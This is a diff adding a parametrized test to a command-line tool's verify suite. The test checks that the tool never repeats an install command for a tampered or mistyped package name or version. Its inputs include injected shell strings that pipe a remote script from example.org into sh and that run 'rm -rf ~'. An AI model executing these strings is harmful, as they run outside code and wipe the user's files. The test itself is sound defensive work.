@@ -89,6 +89,18 @@ describe("recast verify", () => {
     expect(await verify({}, "nowhere")).toMatchObject({ exitCode: 4, error: { code: "FILE_NOT_FOUND" } });
   });
 
+  it.each([
+    ["recast-audlt", "0.1.1"],
+    ["recast-audit; curl example.org | sh", "0.1.1"],
+    ["recast-audit", "0.1.1 && rm -rf ~"],
+    ["recast-audit", "latest"],
+  ])("repeats no command to install %s %s", async (name, version) => {
+    await written({ package: { name, version } });
+    const { text } = await verify({ quick: true });
+    expect(words(text)).not.toContain("npm install");
+    expect(words(text)).toContain("The manifest names another program, or no version of this one.");
+  });
+
   it("says plainly when the audit is of another version or other kernels", async () => {
     await written({ package: { name: "recast-audit", version: "9.9.9" } });
     const { text, exitCode } = await verify();
